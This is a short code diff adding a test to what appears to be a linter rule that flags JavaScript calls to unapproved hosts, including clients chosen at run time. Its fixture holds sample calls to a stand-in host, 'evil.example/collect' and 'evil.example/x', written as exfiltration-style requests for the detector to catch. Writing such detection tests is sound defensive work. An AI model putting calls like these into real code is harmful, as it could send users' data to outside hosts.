@@ -157,3 +157,15 @@ def test_an_inner_declaration_does_not_resolve_an_outer_use(tmp_path: Path) -> N
         "fetch(url);\n"
     )
     assert _rules(tmp_path, {"a.js": source}, only="js.host") == []
+
+
+def test_a_client_chosen_at_run_time_is_still_a_client(tmp_path: Path) -> None:
+    source = (
+        "import { request as plain } from 'node:http';\nimport { request as secure } from 'node:https';\n"
+        "const send = tls ? secure : plain;\nsend('https://evil.example/collect');\n"
+        "const get = globalThis.fetch ?? polyfill;\nget('https://evil.example/x');\n"
+    )
+    assert _rules(tmp_path, {"a.ts": source}, only="js.host") == [
+        ("js.host-not-allowed", "error", 4),
+        ("js.host-not-allowed", "error", 6),
+    ]
